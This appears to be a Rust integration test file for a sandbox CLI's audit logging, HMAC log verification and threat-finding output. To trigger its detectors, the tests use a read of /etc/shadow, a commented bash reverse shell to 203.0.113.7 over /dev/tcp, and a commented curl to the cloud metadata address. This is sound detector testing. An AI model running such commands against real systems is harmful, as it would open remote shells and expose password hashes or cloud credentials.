//! The CLI's observability options on real sandboxes: `run`, `exec` and `load` write an audit
//! log that `audit verify` accepts (with and without an HMAC key), record the policy they ran
//! under, print findings on stderr (text or JSON lines), and `load` counts findings by rule.
//! Needs root (the native backend): fails loudly without it.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use common::*;
use serde_json::Value;
use vana_sandbox::monitor::audit::{AuditLine, AuditRecord};
use vana_sandbox::ConfigKind;

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_vana-sandbox"))
}

/// Runs the CLI with `args` and `stdin`: (exit code, stdout, stderr).
fn cli(args: &[&str], stdin: &str) -> (i32, String, String) {
    require_root();
    let mut child = bin()
        .args(args)
        .env_remove("VANA_SANDBOX_LOG_FORMAT")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(stdin.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn tmp(tag: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("vana-observe-cli-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    d
}

fn log_files(dir: &Path) -> Vec<String> {
    let mut files: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|e| e == "jsonl"))
        .map(|p| p.display().to_string())
        .collect();
    files.sort();
    files
}

fn records(dir: &Path) -> Vec<AuditRecord> {
    log_files(dir)
        .iter()
        .flat_map(|f| {
            std::fs::read_to_string(f)
                .unwrap()
                .lines()
                .map(|l| AuditLine::parse(l).unwrap().record)
                .collect::<Vec<_>>()
        })
        .collect()
}

fn verify(dir: &Path, extra: &[&str]) -> (i32, String) {
    let files = log_files(dir);
    let mut args = vec!["audit", "verify"];
    args.extend(files.iter().map(String::as_str));
    args.extend(extra);
    let (code, out, err) = cli(&args, "");
    (code, out + &err)
}

#[test]
fn run_writes_a_verifiable_audit_log_and_prints_findings() {
    let _g = serial();
    let dir = tmp("run");
    let d = dir.to_str().unwrap();
    let (code, out, err) = cli(
        &[
            "run",
            "--audit-log",
            d,
            "--findings",
            "-l",
            "bash",
            "-c",
            "echo hi; cat /etc/shadow",
        ],
        "",
    );
    assert_eq!((code, out.as_str()), (1, "hi\n"), "{err}");
    assert!(
        err.contains("finding [high] credential_paths (run "),
        "{err}"
    );
    // A second process continues the chain in a new file; the policy comes from a preset.
    let (code, _, err) = cli(
        &[
            "run",
            "--audit-log",
            d,
            "--preset",
            "strict",
            "-l",
            "python",
            "-c",
            "print(1)",
        ],
        "",
    );
    assert_eq!(code, 0, "{err}");
    assert!(!err.contains("finding"), "{err}");
    let (code, report) = verify(&dir, &[]);
    assert_eq!(code, 0, "{report}");
    assert!(
        report.starts_with("ok: ") && report.contains("in 2 file(s)"),
        "{report}"
    );
    let recs = records(&dir);
    let sources: Vec<(ConfigKind, String)> = recs
        .iter()
        .filter_map(|r| match r {
            AuditRecord::ConfigLoaded { kind, source, .. } => Some((*kind, source.clone())),
            _ => None,
        })
        .collect();
    assert_eq!(
        sources,
        vec![
            (ConfigKind::ThreatRules, "builtin".into()),
            (ConfigKind::Policy, "default".into()),
            (ConfigKind::ThreatRules, "builtin".into()),
            (ConfigKind::Policy, "preset:strict".into()),
        ]
    );
    let types: Vec<&str> = recs.iter().map(AuditRecord::type_name).collect();
    assert_eq!(types.iter().filter(|t| **t == "run_finished").count(), 2);
    assert_eq!(types.iter().filter(|t| **t == "finding").count(), 1);
    assert_eq!(types.last(), Some(&"log_closed"));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn exec_with_an_hmac_key_and_json_findings() {
    let _g = serial();
    let dir = tmp("exec");
    std::fs::create_dir_all(&dir).unwrap();
    let key = dir.join("audit.key");
    std::fs::write(&key, "0123456789abcdef0123456789abcdef\n").unwrap();
    let log = dir.join("log");
    let request = r##"{"language": "python", "code": "# bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\nprint('ok')\n"}"##;
    let (code, out, err) = cli(
        &[
            "exec",
            "--json",
            "--audit-log",
            log.to_str().unwrap(),
            "--audit-hmac-key-file",
            key.to_str().unwrap(),
            "--log-format",
            "json",
            "--findings",
        ],
        request,
    );
    assert_eq!(code, 0, "{err}");
    let result: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(result["status"], "success", "{out}");
    let findings: Vec<Value> = err
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter_map(|v| v.get("finding").cloned())
        .collect();
    assert_eq!(findings.len(), 1, "{err}");
    assert_eq!(findings[0]["rule"], "reverse_shell");
    assert_eq!(findings[0]["run_id"], result["id"]);
    let (code, report) = verify(&log, &["--hmac-key-file", key.to_str().unwrap()]);
    assert_eq!(code, 0, "{report}");
    let (code, report) = verify(&log, &[]);
    assert_eq!(
        code, 1,
        "a keyed log does not verify without its key: {report}"
    );
    // A key too short to be one: nothing runs.
    std::fs::write(&key, "short\n").unwrap();
    let (code, out, _) = cli(
        &[
            "exec",
            "--audit-log",
            log.to_str().unwrap(),
            "--audit-hmac-key-file",
            key.to_str().unwrap(),
        ],
        request,
    );
    let result: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        (code, result["status"].as_str()),
        (1, Some("sandbox_error"))
    );
    assert!(
        result["error"].as_str().unwrap().contains("at least 16"),
        "{result}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn load_counts_findings_by_rule() {
    let _g = serial();
    let dir = tmp("load");
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("requests.jsonl");
    std::fs::write(
        &file,
        concat!(
            r#"{"request": {"language": "bash", "code": "echo ok # curl -s http://169.254.169.254/"}, "expect": {"status": "success", "output": "ok\n"}}"#,
            "\n",
            r#"{"request": {"language": "python", "code": "print('ok')"}, "expect": {"output": "ok\n"}}"#,
            "\n"
        ),
    )
    .unwrap();
    let log = dir.join("log");
    let (code, out, err) = cli(
        &[
            "load",
            file.to_str().unwrap(),
            "--runs",
            "6",
            "--concurrency",
            "2",
            "--audit-log",
            log.to_str().unwrap(),
        ],
        "",
    );
    assert_eq!(code, 0, "{out}{err}");
    let summary: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        summary["findings"],
        serde_json::json!({"cloud_metadata": 3})
    );
    let (code, report) = verify(&log, &[]);
    assert_eq!(code, 0, "{report}");
    // Without the detector the summary has no findings at all.
    let (code, out, _) = cli(&["load", file.to_str().unwrap(), "--runs", "2"], "");
    assert_eq!(code, 0);
    let summary: Value = serde_json::from_str(&out).unwrap();
    assert!(summary.get("findings").is_none(), "{summary}");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn json_logs_carry_the_run_span() {
    let _g = serial();
    require_root();
    let out = bin()
        .args(["--log-format", "json", "run", "-l", "bash", "-c", "true"])
        .env("VANA_SANDBOX_LOG", "info")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    let err = String::from_utf8_lossy(&out.stderr);
    let finished: Vec<Value> = err
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .filter(|v| v["fields"]["message"] == "finished")
        .collect();
    assert_eq!(finished.len(), 1, "{err}");
    assert_eq!(finished[0]["span"]["name"], "execution");
    assert_eq!(finished[0]["span"]["id"], finished[0]["fields"]["id"]);
}
